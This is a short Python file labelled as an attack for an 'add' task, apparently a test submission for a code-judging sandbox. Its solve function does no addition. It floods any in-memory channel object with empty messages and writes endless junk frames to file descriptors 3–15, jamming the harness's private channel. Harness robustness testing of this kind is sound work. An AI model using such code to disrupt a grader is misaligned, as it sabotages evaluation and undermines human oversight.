# Attack: the private channel is filled with messages, empty ones and long ones.
# task: add
import gc
import os
import struct


def solve(a, b):
    for thing in gc.get_objects():
        if "hannel" in type(thing).__name__ and hasattr(type(thing), "send"):
            while True:
                thing.send(b"")
    while True:
        for number in range(3, 16):
            try:
                os.write(number, struct.pack(">I", 0) * 10_000)
            except OSError:
                continue
